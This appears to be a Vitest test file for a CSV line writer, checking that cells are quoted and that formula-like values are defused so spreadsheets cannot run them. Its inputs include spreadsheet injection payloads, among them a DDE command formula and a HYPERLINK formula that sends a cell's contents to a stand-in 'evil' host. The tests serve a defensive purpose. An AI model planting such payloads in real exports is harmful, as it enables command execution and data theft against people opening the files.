import { expect, test } from "vitest";
import { csvLine } from "./csv.ts";

test("cells are quoted, and none of them is a formula", () => {
  expect(csvLine(["a", null, 'dice "hola"', "dos\nrenglones", "a,b"])).toBe(
    '"a";"";"dice ""hola""";"dos\nrenglones";"a,b"\r\n',
  );
  for (const formula of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", '=cmd|" /C calc"!A0']) {
    expect(csvLine([formula]).startsWith("\"'")).toBe(true);
  }
  expect(csvLine(["\n=1"])).toBe('"\n\'=1"\r\n');
});

test("no part of a cell is a formula wherever a spreadsheet splits the line", () => {
  expect(csvLine(['x;=HYPERLINK("http://evil/?"&A1;"ver")'])).toBe(`"x;'=HYPERLINK(""http://evil/?""&A1;""ver"")"\r\n`);
  for (const separator of [",", ";", "\t", "\r", "\n", '"', ";  ", '";"', ",\u00a0"]) {
    for (const sign of "=+-@") {
      const line = csvLine([`x${separator}${sign}1`, "y"]);
      for (const part of line.split(/[,;\t\r\n"]/)) expect(part.trim(), JSON.stringify(line)).not.toMatch(/^[=+\-@]/);
    }
  }
  expect(csvLine(["a-b", "1 + 1", "x@example.com"])).toBe('"a-b";"1 + 1";"x@example.com"\r\n');
});
